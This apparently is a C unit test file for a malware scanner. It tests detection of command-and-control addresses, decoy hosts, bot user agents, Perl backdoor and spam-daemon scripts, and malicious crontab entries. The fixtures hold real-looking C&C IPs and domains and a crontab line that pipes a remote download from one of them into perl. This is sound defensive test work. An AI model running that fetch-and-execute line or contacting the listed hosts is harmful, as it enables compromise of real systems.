/* test_indicators.c - network indicators, decoys, script classification
 * and the reasons for crontab text. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "artifacts/indicators.h"
#include "detection/perlscript.h"
#include "detection/unpack_scan.h"

static const ms_indicator *find(const ms_indicator *l, size_t n,
                                enum ms_ioc_type t, const char *v)
{
    for (size_t i = 0; i < n; i++)
        if (l[i].type == t && !strcmp(l[i].value, v))
            return &l[i];
    return NULL;
}

static void scan(const char *s, ms_indicator **l, size_t *n)
{
    int trunc = 0;
    *l = NULL;
    *n = 0;
    assert_int_equal(ms_ioc_scan((const uint8_t *)s, strlen(s),
                                 MS_IOC_DEFAULT_MAX, l, n, &trunc), MS_OK);
    assert_int_equal(trunc, 0);
}

/* n0fate's C&C list (facts §4) plus the UA and a URL. */
static const char cc_script[] =
    "my @h = ('184.106.208.157', '194.54.81.163', 'advseedpromoan.com',\n"
    "  '50.28.24.79', '67.221.183.105', 'seoratingonlyup.net',\n"
    "  'advertise.com', '195.242.70.4', 'pratioupstudios.org',\n"
    "  'www.behance.net');\n"
    "my $ua = 'Mozilla/5.0 (Windows NT 6.1; rv:7.0.1) Gecko/2.0.11 "
    "Firefox/7.0.1';\n"
    "my $u2 = \"Mozilla/5.0 (Windows NT 6.1; rv:7.0.1) Gecko/20100101 "
    "Firefox/7.0.1\";\n"
    "connect('194.54.81.164:25'); $x = \"http://advertise.com/a?b=1\";\n"
    "$v = '1.2.3.4.5'; $w = 'v10.0.0.1'; $o = $obj.method; use IO::Socket;\n"
    "IO::Socket::INET->new(PeerAddr => $h, PeerPort => '54321');\n";

static void test_cc_list(void **state)
{
    ms_indicator *l;
    size_t n;
    (void)state;
    scan(cc_script, &l, &n);
    const ms_indicator *x;
    x = find(l, n, MS_IOC_IPV4, "194.54.81.163");
    assert_non_null(x);
    assert_int_equal(x->cls, MS_IOC_KNOWN);
    assert_int_equal(x->offset, strstr(cc_script, "194.54.81.163") - cc_script);
    x = find(l, n, MS_IOC_IPV4, "184.106.208.157");
    assert_non_null(x);
    assert_int_equal(x->cls, MS_IOC_OTHER);
    assert_int_equal(find(l, n, MS_IOC_HOST, "advertise.com")->cls,
                     MS_IOC_DECOY);
    assert_int_equal(find(l, n, MS_IOC_HOST, "www.behance.net")->cls,
                     MS_IOC_DECOY);
    assert_int_equal(find(l, n, MS_IOC_HOST, "advseedpromoan.com")->cls,
                     MS_IOC_OTHER);
    assert_non_null(find(l, n, MS_IOC_HOST, "pratioupstudios.org"));
    assert_non_null(find(l, n, MS_IOC_IPV4, "195.242.70.4"));
    assert_int_equal(find(l, n, MS_IOC_PORT, "194.54.81.164:25")->cls,
                     MS_IOC_KNOWN);
    assert_int_equal(find(l, n, MS_IOC_URL, "http://advertise.com/a?b=1")->cls,
                     MS_IOC_DECOY);
    assert_int_equal(find(l, n, MS_IOC_USER_AGENT,
                          "Mozilla/5.0 (Windows NT 6.1; rv:7.0.1) Gecko/"
                          "2.0.11 Firefox/7.0.1")->cls, MS_IOC_KNOWN);
    assert_int_equal(find(l, n, MS_IOC_USER_AGENT,
                          "Mozilla/5.0 (Windows NT 6.1; rv:7.0.1) Gecko/"
                          "20100101 Firefox/7.0.1")->cls, MS_IOC_WEAK);
    /* not addresses: five numbers, inside an identifier, Perl tokens */
    assert_null(find(l, n, MS_IOC_IPV4, "1.2.3.4"));
    assert_null(find(l, n, MS_IOC_IPV4, "2.3.4.5"));
    assert_null(find(l, n, MS_IOC_IPV4, "10.0.0.1"));
    for (size_t i = 0; i < n; i++)
        assert_true(l[i].type != MS_IOC_HOST ||
                    strstr(l[i].value, "IO::") == NULL);
    assert_null(find(l, n, MS_IOC_HOST, "obj.method"));
    assert_int_equal(find(l, n, MS_IOC_PORT, "54321")->cls, MS_IOC_OTHER);
    ms_ioc_free(l, n);
}

static void test_classify_values(void **state)
{
    (void)state;
    assert_int_equal(ms_ioc_classify(MS_IOC_IPV4, "194.54.81.162"),
                     MS_IOC_KNOWN);
    assert_int_equal(ms_ioc_classify(MS_IOC_IPV4, "194.54.81.165"),
                     MS_IOC_OTHER);
    assert_int_equal(ms_ioc_classify(MS_IOC_HOST, "notbehance.net"),
                     MS_IOC_OTHER);
    assert_int_equal(ms_ioc_classify(MS_IOC_HOST, "BEHANCE.NET"),
                     MS_IOC_DECOY);
    assert_int_equal(ms_ioc_classify(MS_IOC_URL,
                                     "http://user@194.54.81.163:80/x"),
                     MS_IOC_KNOWN);
    /* Gecko token must be exactly digits.digits.digits */
    assert_int_equal(ms_ioc_classify(MS_IOC_USER_AGENT,
        "Mozilla/5.0 (Windows NT 6.1; rv:7.0.1) Gecko/1.2 Firefox/7.0.1"),
        MS_IOC_OTHER);
    assert_int_equal(ms_ioc_classify(MS_IOC_USER_AGENT,
        "Mozilla/5.0 (Windows NT 6.1; rv:7.0.1) Gecko/1.2.3.4 Firefox/7.0.1"),
        MS_IOC_OTHER);
    assert_int_equal(ms_ioc_classify(MS_IOC_USER_AGENT,
        "Mozilla/5.0 (Windows NT 6.1; rv:7.0.1) Gecko/1..3 Firefox/7.0.1"),
        MS_IOC_OTHER);
    assert_int_equal(ms_ioc_classify(MS_IOC_USER_AGENT,
        "Mozilla/5.0 (X11; Linux x86_64; rv:7.0.1) Gecko/1.2.3 Firefox/7.0.1"),
        MS_IOC_OTHER);
}

/* Bounds: a cap on the count, values ending at the buffer's end, binary
 * junk.  The buffers are exactly sized so ASan sees any overrun. */
static void test_bounds(void **state)
{
    ms_indicator *l = NULL;
    size_t n = 0;
    int trunc = 0;
    (void)state;
    const char *edges[] = { "194.54.81.163", "http://a.com", "Mozilla/",
                            "x.com:", "1.2.3.", "User-Agent:", "a.b.c.com",
                            "194.54.81.163:65536", "http://",
                            "PeerPort => '12345", "PeerPort=" };
    for (size_t i = 0; i < sizeof edges / sizeof *edges; i++) {
        size_t len = strlen(edges[i]);
        uint8_t *b = malloc(len);
        memcpy(b, edges[i], len);
        for (size_t k = 0; k <= len; k++) {
            l = NULL;
            n = 0;
            assert_int_equal(ms_ioc_scan(b, k, 8, &l, &n, &trunc), MS_OK);
            ms_ioc_free(l, n);
        }
        free(b);
    }
    /* many distinct addresses: capped, flagged truncated */
    char big[20000];
    size_t o = 0;
    for (int i = 0; i < 1000 && o < sizeof big - 20; i++)
        o += (size_t)snprintf(big + o, sizeof big - o, "10.0.%d.%d ",
                              i / 250, i % 250);
    l = NULL;
    n = 0;
    trunc = 0;
    assert_int_equal(ms_ioc_scan((uint8_t *)big, o, 16, &l, &n, &trunc),
                     MS_OK);
    assert_int_equal(n, 16);
    assert_int_equal(trunc, 1);
    ms_ioc_free(l, n);
    /* pseudo-random binary */
    uint8_t *rnd = malloc(65536);
    uint32_t x = 7;
    for (size_t i = 0; i < 65536; i++) {
        x = x * 1103515245u + 12345u;
        rnd[i] = (uint8_t)(x >> 16);
    }
    l = NULL;
    n = 0;
    assert_int_equal(ms_ioc_scan(rnd, 65536, 256, &l, &n, &trunc), MS_OK);
    ms_ioc_free(l, n);
    free(rnd);
}

static void test_script_kinds(void **state)
{
    const char *f[MS_SCRIPT_MAX_FEATURES];
    size_t nf = 0;
    (void)state;
    static const char bd[] =
        "if ($h =~ /Set-Cookie: PHPSESSID=([^;]+)/) {}\n"
        "return unless $r =~ /HTTP\\/1.0 200 OK/ && $r =~ /Connection: close/;\n"
        "if ($^O eq 'MSWin32') { ($EWB, $EIP) = (10035, 10036) }\n";
    assert_int_equal(ms_script_classify((const uint8_t *)bd, strlen(bd), f,
                                        &nf), MS_SCRIPT_BACKDOOR);
    assert_int_equal(nf, 4);
    static const char spam[] =
        "$0 = \"httpd\";\nprint $s \"EHLO $me\\r\\n\";\n"
        "print $s \"MAIL FROM:<$f>\\r\\n\"; print $s \"RCPT TO:<$t>\\r\\n\";\n"
        "print $s \"DATA\\r\\n\";\n";
    assert_int_equal(ms_script_classify((const uint8_t *)spam, strlen(spam),
                                        f, &nf), MS_SCRIPT_SPAM_DAEMON);
    assert_int_equal(nf, 5);
    static const char plain[] = "print \"hello\\n\";\n$0 = 'worker';\n";
    assert_int_equal(ms_script_classify((const uint8_t *)plain,
                                        strlen(plain), f, &nf),
                     MS_SCRIPT_UNKNOWN);
    assert_int_equal(nf, 0);
    assert_int_equal(ms_script_classify(NULL, 0, f, &nf), MS_SCRIPT_UNKNOWN);
}

static void test_crontab_reasons(void **state)
{
    ms_reason *r = NULL;
    size_t n = 0;
    (void)state;
    static const char tab[] =
        "# fetch\nMAILTO=\"\"\n"
        "*/15 * * * * wget -q -O- http://194.54.81.163/x | perl\n"
        "0 * * * * curl -A 'Mozilla/5.0 (Windows NT 6.1; rv:7.0.1) Gecko/"
        "20100101 Firefox/7.0.1' http://www.behance.net/\n";
    assert_int_equal(ms_ioc_reasons((const uint8_t *)tab, strlen(tab),
                                    "crontab", 1, &r, &n), MS_OK);
    int known = 0, weak = 0;
    for (size_t i = 0; i < n; i++) {
        if (r[i].severity == MS_SEV_MALICIOUS) {
            known++;
            assert_string_equal(r[i].code, "C2_INDICATOR");
            assert_non_null(strstr(r[i].text, "at line 3"));
        } else {
            weak++;
            assert_string_equal(r[i].code, "C2_INDICATOR_WEAK");
        }
        assert_null(strstr(r[i].text, "behance"));   /* decoy */
    }
    assert_true(known >= 2);   /* the URL and its address */
    assert_int_equal(weak, 1);
    ms_reasons_free(r, n);
    r = NULL;
    n = 0;
    static const char clean[] = "*/15 * * * * /usr/bin/true\n";
    assert_int_equal(ms_ioc_reasons((const uint8_t *)clean, strlen(clean),
                                    "crontab", 1, &r, &n), MS_OK);
    assert_int_equal(n, 0);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_cc_list),
        cmocka_unit_test(test_classify_values),
        cmocka_unit_test(test_bounds),
        cmocka_unit_test(test_script_kinds),
        cmocka_unit_test(test_crontab_reasons),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
